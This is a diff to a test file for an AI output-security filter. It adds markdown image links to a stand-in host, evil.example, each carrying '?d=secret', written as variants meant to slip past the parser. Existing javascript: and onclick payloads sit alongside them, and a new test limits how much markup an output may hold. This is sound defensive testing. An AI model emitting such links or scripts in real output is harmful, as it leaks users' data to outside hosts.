@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from agentguard.detect import markup
 from agentguard.detect.markup import inspect_markup, neutralize
 from agentguard.detect.output import OutputSecurityFilter
 from agentguard.detect.redaction import keyed_hash, redact
@@ -182,6 +183,14 @@ ACTIVE = [
     "[x](javascript:alert(1))",
     "![x](https://evil.example/a.png?d=secret)",
     "[x]: javascript:alert(1)",
+    "[see ![x](https://evil.example/a.png?d=secret)",
+    "![two\nlines](https://evil.example/a.png?d=secret)",
+    f"![{'long ' * 400}](https://evil.example/a.png?d=secret)",
+    "[x](a![b](https://evil.example/a.png?d=secret)",
+    "![a\\](b](https://evil.example/a.png?d=secret)",
+    "[![x](https://evil.example/a.png?d=secret)](https://example.com)",
+    "![x](https://evil.example/a(b)?d=secret)",
+    "![x](https://evil.example/a\\(b?d=secret)",
     "<javascript:alert(1)>",
     "<div\nonclick=alert(1)>",
 ]
@@ -213,6 +222,15 @@ def test_honest_answers_are_safe_and_unchanged(text: str) -> None:
 
     assert output.validate_output_safety(text) == (True, None)
     assert output.filter_output(text) == text
+
+
+@pytest.mark.parametrize("unit", ["<b>", "[x](/y) "])
+def test_a_crowd_of_markup_is_unsafe_and_its_rest_removed(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(markup, "MAX_MARKUP", 10)
+
+    assert OutputSecurityFilter().validate_output_safety(unit * 10) == (True, None)
+    assert OutputSecurityFilter().validate_output_safety(unit * 11)[0] is False
+    assert OutputSecurityFilter().filter_output(unit * 20) == unit * 10 + markup.CROWDED
 
 
 def test_only_listed_hosts_may_be_linked() -> None:
